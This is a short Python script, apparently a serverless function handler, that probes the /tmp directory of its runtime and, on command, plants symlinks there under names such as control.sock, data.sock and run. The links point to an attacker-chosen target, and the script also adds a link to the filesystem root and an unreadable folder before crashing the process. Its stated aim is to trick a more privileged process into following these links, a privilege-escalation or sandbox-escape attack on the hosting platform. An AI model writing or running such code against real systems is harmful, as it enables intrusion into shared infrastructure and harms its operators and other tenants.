"""Leaves links in /tmp that somebody with more rights might follow; tells what it finds there."""
import os


def main_handler(event, context):
    found = sorted(os.listdir("/tmp"))
    if event["do"] == "plant":
        for name in ("lost+found", "hanshu", "0", "run", "control.sock", "data.sock", "out"):
            os.symlink(event["to"], f"/tmp/{name}")
        os.mkdir("/tmp/folder", 0o000)
        os.symlink("/", "/tmp/root")
        os._exit(1)
    return found
